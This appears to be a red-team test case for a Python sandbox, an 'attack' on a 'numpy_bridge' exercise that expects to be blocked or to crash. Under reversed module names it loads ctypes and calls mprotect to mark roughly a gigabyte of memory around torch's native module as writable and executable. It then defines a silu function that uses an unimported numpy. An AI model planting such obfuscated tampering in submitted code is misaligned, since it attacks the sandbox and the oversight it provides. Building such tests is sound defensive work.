# /// attack
# exercise = "numpy_bridge"
# rides = true
# tries = "gives torch's pages back their right to be executed, by a native call, and computes with it"
# outcomes = ["exception", "forbidden", "crashed"]
# ///

import sys

T = sys.modules["hcrot"[::-1]]

C = sys.modules["sepytc"[::-1]]
NATIVE = C.CDLL(None)
HERE = C.cast(C.CDLL(T._C.__file__).PyInit__C, C.c_void_p).value & ~0xFFF
for page in range(HERE - (1 << 29), HERE + (1 << 29), 0x1000):
    NATIVE.mprotect(C.c_void_p(page), C.c_size_t(0x1000), 7)
T.ones(1)


def silu(z):
    return T.nn.functional.silu(T.from_numpy(np.array(z))).numpy()
